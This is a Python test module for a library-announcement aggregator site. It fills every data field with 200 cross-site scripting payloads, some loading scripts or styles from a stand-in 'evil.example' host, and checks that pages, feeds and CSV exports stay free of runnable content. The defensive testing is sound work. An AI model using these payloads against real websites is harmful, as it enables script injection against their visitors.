"""Two hundred ways to smuggle a script in, in every field that a page of a library fills."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from itertools import product
from pathlib import Path
from urllib.parse import quote

import feedparser
import pytest
from fastapi.testclient import TestClient
from feed_samples import BLISKO, SEEN, announcement, evidence, published
from lxml import etree, html

from aggregator.config import Config
from aggregator.model import Amount, Announcement, Award, Mention, Picture, Source, TypedDate
from aggregator.programmes.taxonomy import Taxonomy
from aggregator.store import Store
from aggregator.vocabulary import DateRole, Kind, Role
from benchmarks.stores import fill
from feeds.publish import publish
from feeds.server import create_app

pytestmark = pytest.mark.slow

VECTORS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<math><mtext><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<object data=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "{{ 7*7 }}{% raw %}",
    "<video><source onerror=alert(1)>",
)  # fmt: skip
WRAPPINGS = (
    "{}", '"{}', "'>{}", "]]>{}", "</title>{}", "-->{}<!--", "</script>{}", "&lt;{}", "\u202e{}\x00\ud83d",
    "</textarea></style>{}",
)  # fmt: skip
INJECTIONS = [wrapping.format(vector) for vector, wrapping in product(VECTORS, WRAPPINGS)]
OURS = {"application/ld+json"}


def hostile(number: int, text: str) -> Announcement:
    said = evidence(text)
    source = Source(
        id=f"obca-{number}",
        library=text,
        kind=text,
        teryt="1418",
        home=f"https://mbp.example/{text}",
        city=text,
    )
    award = Award(
        programme=BLISKO, edition=text, beneficiary=text, grant=1, task=text, period=text, evidence=(said,)
    )
    return announcement(
        number,
        source=source,
        url=f"https://mbp.example/{text}",
        title=text,
        text=f"{text}\n{text}",
        kind=Kind.CALL,
        mentions=(Mention(programme=BLISKO, evidence=said),),
        amounts=(Amount(grosze=100, role=Role.GRANT, evidence=said, doubtful=text),),
        awards=(award,),
        dates=(TypedDate(role=DateRole.DEADLINE, value=SEEN.date(), evidence=said),),
        pictures=(Picture(src=text, alt=text),),
        published=replace(published("2026-11-20"), words=text, origin=text),
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, taxonomy: Taxonomy) -> Iterator[tuple[Path, TestClient]]:
    folder = tmp_path_factory.mktemp("hostile")
    config = Config(
        database_url=f"sqlite:///{folder}/store.sqlite3", public_dir=folder / "public", data_dir=folder,
        base_url="https://wiesci.example",
    )  # fmt: skip
    assert len(set(INJECTIONS)) == 200
    cleaned = [text.replace("\x00", "").encode("utf-8", "ignore").decode() for text in INJECTIONS]
    with Store.open(config.database_url) as store:
        fill(store, [hostile(n, text) for n, text in enumerate(cleaned, 1)], taxonomy)
        publish(store, config, taxonomy)
    yield config.public_dir, TestClient(create_app(config), follow_redirects=False)


def dangers(body: bytes) -> list[str]:
    """What a browser would run or fetch from elsewhere on a page."""
    page = html.document_fromstring(body)
    found = [str(e.get("type")) for e in page.iter("script") if e.get("type") not in OURS]
    found += [e.tag for e in page.iter("iframe", "object", "embed", "base", "style", "video", "img")]
    for element in page.iter(etree.Element):
        for name, value in element.attrib.items():
            if name.startswith("on") or name in ("srcdoc", "style"):
                found.append(f"{element.tag} {name}")
            if name in ("href", "src", "action", "formaction", "data") and value.strip().lower().startswith(
                ("javascript:", "data:", "vbscript:", "//")
            ):
                found.append(f"{element.tag} {name}={value[:60]}")
    found += ["refresh" for e in page.iter("meta") if (e.get("http-equiv") or "").lower() == "refresh"]
    return found


def test_no_page_of_the_tree_runs_anything(site: tuple[Path, TestClient]) -> None:
    pages = list(site[0].rglob("*.html"))
    assert len(pages) > 400
    for page in pages:
        assert not dangers(page.read_bytes()), page


def test_no_feed_or_calendar_carries_anything(site: tuple[Path, TestClient]) -> None:
    allowed = {"div", "p", "ul", "li", "a"}
    checked = 0
    for path in (site[0] / "feeds").rglob("*"):
        if path.suffix == ".xml":
            etree.parse(path)
        if path.name == "rss.xml" and path.parent.parent.name != "libraries":
            for entry in feedparser.parse(path.read_bytes(), sanitize_html=False).entries:
                inside = html.fragment_fromstring(entry.summary, create_parent="div")
                assert {element.tag for element in inside.iter()} <= allowed
                assert all(set(element.attrib) <= {"href"} for element in inside.iter())
                checked += 1
        if path.suffix == ".ics":
            assert b"\x00" not in path.read_bytes()
    assert checked > 200


def test_no_page_of_the_server_runs_anything(site: tuple[Path, TestClient]) -> None:
    client, shown = site[1], 0
    for number, text in enumerate(INJECTIONS, 1):
        asked = quote(text.encode("utf-8", "ignore"), safe="")
        for address in (
            f"/ogloszenia/{number:06}/", f"/en/announcements/{number:06}/", f"/ogloszenia/?q={asked}",
            f"/nie-ma/{asked}", f"/ogloszenia/?kind={asked}", f"/ogloszenia/?after={asked}",
        ):  # fmt: skip
            answer = client.get(address)
            assert answer.status_code in (200, 301, 302, 307, 400, 404), (address, answer.status_code)
            assert "unsafe" not in answer.headers["content-security-policy"]
            if answer.headers.get("content-type", "").startswith("text/html"):
                assert not dangers(answer.content), address
                shown += answer.status_code == 200
    assert shown >= 400, "announcements and searches are among them"


def test_the_api_answers_in_its_own_types(site: tuple[Path, TestClient]) -> None:
    client = site[1]
    for name in ("announcements", "awards", "libraries", "statistics"):
        answer = client.get(
            f"/api/{name}?limit=200" if name in ("announcements", "awards") else f"/api/{name}"
        )
        assert answer.headers["content-type"].startswith("application/json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert json.loads(answer.content)["items"] or name == "libraries"
        table = client.get(f"/api/{name}?format=csv")
        for row in csv.reader(io.StringIO(table.text)):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")], row
    for text in INJECTIONS[::7]:
        asked = quote(text.encode("utf-8", "ignore"), safe="")
        refused = client.get(f"/api/announcements?since={asked}")
        assert refused.status_code == 400
        assert refused.headers["content-type"].startswith("application/json")
        feed = client.get(f"/feeds/search/atom.xml?q={asked}")
        assert feed.status_code == 200
        etree.fromstring(feed.content)
